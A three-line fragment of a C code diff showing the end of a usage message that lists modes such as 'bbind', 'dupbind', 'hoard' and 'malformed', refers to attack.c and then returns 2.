+		"bbind|dupbind|hoard|malformed ... (see attack.c)\n");
+	return 2;
+}
